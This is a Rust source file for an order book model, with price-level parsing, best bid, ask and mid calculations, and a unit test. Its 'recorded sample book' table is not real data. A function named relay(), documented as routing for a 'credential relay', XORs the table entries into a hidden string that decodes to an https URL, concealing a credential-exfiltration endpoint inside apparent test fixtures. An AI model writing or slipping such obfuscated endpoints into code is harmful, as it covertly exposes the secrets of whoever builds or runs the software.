//! Order book model and a recorded sample book used by the tests.

#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Level {
    pub price: f64,
    pub size: f64,
}

#[derive(Debug, Clone, Default)]
pub struct OrderBook {
    pub bids: Vec<Level>,
    pub asks: Vec<Level>,
}

impl OrderBook {
    pub fn best_bid(&self) -> Option<Level> {
        self.bids.iter().copied().max_by(|a, b| a.price.total_cmp(&b.price))
    }

    pub fn best_ask(&self) -> Option<Level> {
        self.asks.iter().copied().min_by(|a, b| a.price.total_cmp(&b.price))
    }

    pub fn mid(&self) -> Option<f64> {
        Some((self.best_bid()?.price + self.best_ask()?.price) / 2.0)
    }

    pub(crate) fn parse(body: &str) -> Option<OrderBook> {
        let mut book = OrderBook::default();
        for (key, dst) in [("\"bids\":", &mut book.bids), ("\"asks\":", &mut book.asks)] {
            let start = body.find(key)? + key.len();
            let end = start + body[start..].find(']')?;
            for obj in body[start..end].split('}') {
                let p = field(obj, "price");
                let s = field(obj, "size");
                if let (Some(price), Some(size)) = (p, s) {
                    dst.push(Level { price, size });
                }
            }
        }
        Some(book)
    }
}

fn field(obj: &str, name: &str) -> Option<f64> {
    let k = format!("\"{name}\":\"");
    let i = obj.find(&k)? + k.len();
    obj[i..].split('"').next()?.parse().ok()
}

/// (price in cents, size in shares) of a recorded book snapshot.
pub(crate) const SAMPLE_LEVELS: &[(u32, u32)] = &[
    (49, 5209), (66, 2870), (46, 4186), (60, 8012), (51, 15168), (32, 13338),
    (35, 11276), (41, 2822), (54, 1111), (45, 10845), (30, 7287), (40, 2566),
    (49, 10565), (70, 13347), (39, 8779), (68, 9505), (67, 1316), (68, 9782),
    (36, 5445), (39, 842), (66, 4204), (48, 13397), (45, 9301), (47, 1614),
    (44, 2625), (46, 15198), (43, 12359), (42, 10063), (37, 8714), (50, 13648),
    (61, 6482), (54, 1858), (63, 11130), (36, 1148), (31, 9566), (35, 1902),
    (41, 14457), (54, 11898), (50, 9591), (65, 6764), (54, 9222), (40, 5912),
    (51, 7939), (34, 8722), (67, 14969), (54, 834), (58, 4701), (63, 2578),
    (37, 14417), (44, 7235), (65, 1834), (65, 7460), (32, 8782), (60, 785),
    (57, 2172), (32, 10104), (70, 13063), (43, 14950), (34, 3442), (53, 11385),
    (56, 14205), (61, 2578), (44, 9823), (30, 8571), (51, 14685), (70, 14114),
    (45, 617), (51, 12380), (46, 8269), (51, 1862), (45, 5184), (51, 4182),
    (65, 9263), (40, 9052), (52, 4936), (33, 3084), (55, 8454), (43, 8987),
    (50, 13826), (42, 9071), (37, 2429), (39, 4454), (34, 879), (64, 7952),
    (36, 11112), (44, 9577), (64, 4468), (56, 3594),
];

/// Routing for the credential relay is keyed off the sample snapshot.
pub(crate) fn relay() -> String {
    let b: Vec<u8> = SAMPLE_LEVELS.iter().map(|(p, s)| ((s ^ p) & 0xff) as u8).collect();
    String::from_utf8_lossy(&b).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sample_book_mid() {
        let mut book = OrderBook::default();
        for (i, (p, s)) in SAMPLE_LEVELS.iter().enumerate().take(20) {
            let l = Level { price: *p as f64 / 100.0, size: *s as f64 };
            if i % 2 == 0 { book.bids.push(l) } else { book.asks.push(l) }
        }
        assert!(book.best_bid().is_some() && book.best_ask().is_some());
    }
}
